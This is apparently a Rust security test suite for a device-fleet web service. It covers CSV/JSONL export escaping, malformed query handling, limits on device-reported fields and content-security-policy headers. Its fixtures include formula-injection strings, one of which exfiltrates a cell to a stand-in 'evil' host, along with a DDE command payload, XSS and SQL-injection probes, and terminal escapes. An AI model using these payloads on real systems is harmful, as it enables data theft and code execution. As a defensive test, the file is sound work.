//! Runs that are exported, and what boards say in them: for a program for tables, for one that reads JSON, for a
//! terminal. Cursors and limits that were made up.

use serde_json::{Value, json};

use crate::browser::{Browser, text};
use crate::station::{Board, Station};

/// What a board says is the reason of its failure: each of these is computed, ends a field or a line, or moves a cursor
/// somewhere.
const REASONS: &[&str] = &[
    "=HYPERLINK(\"http://evil/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "says \"no\",\r\n=1,2",
    "a\u{1b}[2Jb\u{9b}31m",
    "]\n},\n\"x\": [",
    "<script>alert(1)</script>",
];

/// Lines of CSV, as a program for tables reads them.
fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn what_a_board_says_is_computed_in_no_table_and_ends_no_field() {
    let dir = tempfile::tempdir().unwrap();
    let station = Station::start(dir.path(), &["--enrol", "open"]);
    let mut board = Board::new("10000000af04b2da");
    board.register(&station).ok();
    for reason in REASONS {
        let path = format!("/api/v1/boards/{}/jobs", board.id);
        station.admin("POST", &path, Some(&json!({"action": "reboot"}))).ok();
        let work = board.work(&station, 5).ok();
        let path = format!("/api/v1/device/jobs/{}/result", work["job"].as_str().unwrap());
        let body = json!({"fence": work["fence"], "stage": "report", "failed": reason});
        station.call("POST", &path, work["token"].as_str(), Some(&body)).ok();
    }
    let viewer = Browser::user(&station, "vic", "viewer");
    let csv = viewer.page("/runs.csv");
    assert!(!csv.contains(['\u{1b}', '\u{9b}']), "{csv:?}");
    let rows = rows(&csv);
    assert_eq!(rows.len(), REASONS.len() + 1, "{csv}");
    for row in &rows {
        assert_eq!(row.len(), rows[0].len(), "{row:?}");
        for field in row {
            assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{row:?}");
        }
    }
    let answer = viewer.get("/runs.jsonl");
    let all = text(&answer);
    let all: Vec<Value> = all.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(all.len(), REASONS.len());
    assert!(!text(&answer).contains(['\u{1b}', '\u{9b}']));
    for header in ["content-disposition", "x-content-type-options"] {
        assert!(answer.header(header).is_some(), "{header}");
    }
    assert!(answer.header("content-disposition").unwrap().starts_with("attachment"));
    // The same of programs.
    let told = station.admin("GET", "/api/v1/runs/export?format=csv", None);
    assert_eq!(text(&told), csv);
    assert_eq!(text(&station.admin("GET", "/api/v1/runs/export?format=json", None)), text(&answer));
    assert_eq!(station.admin("GET", "/api/v1/runs/export?format=xls", None).status, 400);
    assert_eq!(station.admin("GET", "/api/v1/runs?format=csv", None).status, 422);
    let statistics = viewer.page("/statistics");
    assert!(!statistics.contains("<script>alert") && !statistics.contains('\u{1b}'));
    let page = viewer.page("/runs");
    assert!(!page.contains("<script>alert") && !page.contains('\u{1b}'));
}

#[test]
fn a_cursor_or_a_filter_that_was_made_up_breaks_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let station = Station::start(dir.path(), &[]);
    let viewer = Browser::user(&station, "vic", "viewer");
    let long = "a".repeat(5000);
    for page in ["/runs", "/runs.csv", "/runs.jsonl", "/boards"] {
        for query in [
            "after=%00",
            "after=-1",
            "after=99999999999999999999.x",
            "after=1.%27%20or%201=1--",
            "limit=18446744073709551615",
            "limit=-1",
            "q=%25_%27%3B--",
            "why=%00%ff",
            "from=9999-99-99",
            "from=-262144-01-01",
            "to=0000-00-00",
            "way=x%00",
            "sort=id;drop",
            &format!("after={long}"),
            &format!("q={long}"),
        ] {
            let answer = viewer.get(&format!("{page}?{query}"));
            let status = answer.status;
            assert!(
                answer.whole && (status == 200 || (400..500).contains(&status)),
                "{page}?{query}: {status}"
            );
        }
    }
    // Nobody who isn't known gets anything.
    for page in ["/runs", "/runs.csv", "/runs.jsonl", "/boards"] {
        assert_eq!(
            Browser::new(&station).get(page).header("location").map(|to| to.starts_with("/login")),
            Some(true)
        );
    }
}

#[test]
fn what_a_board_tells_of_itself_is_bounded_and_is_a_text_wherever_it_is_shown() {
    let dir = tempfile::tempdir().unwrap();
    let station = Station::start(dir.path(), &["--enrol", "open"]);
    let mut board = Board::new("10000000af04b2da");
    let tell = |board: &Board, name: &str, value: Value| {
        let hello = station.call("GET", "/api/v1/device/hello", None, None).ok();
        let mut told = board.told(hello["nonce"].as_str().unwrap());
        told[name] = value;
        let body = told.to_string();
        board.register_with(&station, body.as_bytes(), &board.sign(body.as_bytes())).status
    };
    let zone = |n: usize| json!({"name": format!("z{n}"), "temperature": 20.0});
    let disk =
        |name: &str, value: Value| json!([{"name": "mmcblk0", "role": "emmc", "size": 1, name: value}]);
    for (name, value) in [
        ("zones", (0..5000).map(zone).collect::<Value>()),
        ("zones", (0..17).map(zone).collect()),
        ("zones", json!([{"name": "z".repeat(65), "temperature": 20.0}])),
        ("zones", json!([{"name": "z", "temperature": 1e300}])),
        ("duid", json!("d".repeat(201))),
        ("firmware", json!({"version": "v".repeat(201)})),
        ("firmware", json!({"built": -1})),
        ("disks", disk("cid", json!("f".repeat(60_000)))),
        ("disks", disk("serial", json!("s".repeat(201)))),
        ("disks", disk("made", json!("m".repeat(201)))),
        ("disks", disk("pre_eol", json!(256))),
        ("disks", disk("used", json!(256))),
        ("disks", disk("hours", json!(-1))),
    ] {
        let status = tell(&board, name, value);
        assert!((400..500).contains(&status), "{name}: {status}");
    }
    // Within its bounds it may be anything, and is a text.
    let evil = "=1+1\u{1b}[2J<script>alert(1)</script>\t\r\n\u{202e}";
    let disks = json!([{
        "name": "mmcblk0", "role": "emmc", "size": 8u64 << 30, "model": evil, "cid": evil, "csd": evil, "serial": evil,
        "firmware": evil, "maker": evil, "made": evil,
    }]);
    board.register(&station).ok();
    for (name, value) in [("disks", disks), ("duid", json!(evil)), ("firmware", json!({"version": evil}))] {
        assert_eq!(tell(&board, name, value), 200, "{name}");
    }
    // Each time all is told anew: only the last one is kept.
    let disks = json!([{"name": "mmcblk0", "role": "emmc", "size": 8u64 << 30, "cid": evil, "serial": evil}]);
    assert_eq!(tell(&board, "disks", disks), 200);
    let path = format!("/api/v1/boards/{}/jobs", board.id);
    station.admin("POST", &path, Some(&json!({"action": "reboot"}))).ok();
    board.register(&station).ok();
    let work = board.work(&station, 5).ok();
    let path = format!("/api/v1/device/jobs/{}/result", work["job"].as_str().unwrap());
    let result = |more: Value| {
        let mut body = json!({"fence": work["fence"], "stage": "report", "failed": evil});
        body.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        station.call("POST", &path, work["token"].as_str(), Some(&body)).status
    };
    assert_eq!(result(json!({"before": {"zones": (0..17).map(zone).collect::<Value>()}})), 422);
    assert_eq!(result(json!({"after": {"temperature": -1e9}})), 422);
    let health = json!({"temperature": 40.0, "zones": [{"name": evil, "temperature": 40.0}]});
    assert_eq!(result(json!({"before": health, "after": health})), 204);
    let viewer = Browser::user(&station, "vic", "viewer");
    for page in ["/runs/report", "/statistics", &format!("/boards/{}", board.id)] {
        let page = viewer.page(page);
        assert!(!page.contains("<script>alert") && !page.contains(['\u{1b}', '\u{202e}']), "{page}");
    }
    let csv = viewer.page("/runs.csv");
    assert!(!csv.contains(['\u{1b}', '\u{202e}']), "{csv:?}");
    let rows = rows(&csv);
    assert!(
        rows.iter().flatten().all(|field| !field.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{rows:?}"
    );
}

/// What a page that somebody gets a text into could load, run, or be framed by.
#[test]
fn no_page_loads_runs_or_is_framed_by_anything_of_others() {
    let dir = tempfile::tempdir().unwrap();
    let station = Station::start(dir.path(), &["--enrol", "open"]);
    let stranger = Browser::new(&station);
    let admin = Browser::user(&station, "ada", "admin");
    let of = |answer: &crate::station::Answer, name: &str| answer.header(name).unwrap_or_default().to_owned();
    for (who, path) in [
        (&stranger, "/login"),
        (&stranger, "/nowhere"),
        (&stranger, "/"),
        (&admin, "/"),
        (&admin, "/runs"),
        (&admin, "/images"),
        (&admin, "/nowhere"),
    ] {
        let answer = who.get(path);
        let policy = of(&answer, "content-security-policy");
        for rule in [
            "default-src 'none'",
            "script-src 'self'",
            "style-src 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            assert!(policy.split(';').any(|has| has.trim() == rule), "{path}: {rule}: {policy}");
        }
        assert!(!policy.contains("unsafe"), "{path}: {policy}");
        assert_eq!(of(&answer, "x-frame-options"), "DENY", "{path}");
        assert_eq!(of(&answer, "x-content-type-options"), "nosniff", "{path}");
        // The policy would stop them; there are none either.
        let page = text(&answer).to_lowercase();
        for word in ["<style", " style=", " onclick=", " onload=", "javascript:", "src=\"http", "href=\"//"] {
            assert!(!page.contains(word), "{path}: {word}");
        }
        for script in page.split("<script").skip(1) {
            assert!(script.split('>').next().unwrap().contains(" src=\"/"), "{path}: {script}");
        }
    }
}
